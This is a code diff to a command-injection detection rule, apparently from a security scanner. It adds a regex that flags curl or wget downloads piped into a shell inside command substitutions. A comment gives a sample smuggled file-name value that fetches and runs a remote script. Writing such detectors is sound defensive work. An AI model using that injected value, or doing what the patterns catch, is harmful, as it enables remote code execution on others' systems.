@@ -107,6 +107,8 @@ export const commandInjectionRule: Rule = {
     // A value in a field (start of text, after a quote, a colon or =) then a separator and a command that stops or wipes the host.
     // Found at the command (rare), the field value before the separator is checked by injectionConfidence.
     new RegExp(String.raw`(?<disrupt>${BREAK})\s*${DISRUPT_CMD}${END}|(?<disrupt2>${ENCODED_BREAK})${DISRUPT_AFTER_ENCODED}${END}`, 'g'),
+    // A command substitution that downloads a script and runs it, in a value a tool will put on a command line: "report_$(curl -s https://x/u.sh | sh).pdf".
+    /\$\(\s*(?:curl|wget)\s[^)\n]{1,200}?\|\s*(?:sudo\s+)?(?:ba|z|da)?sh(?![\w-])/g,
   ],
   validate: injectionConfidence,
 };
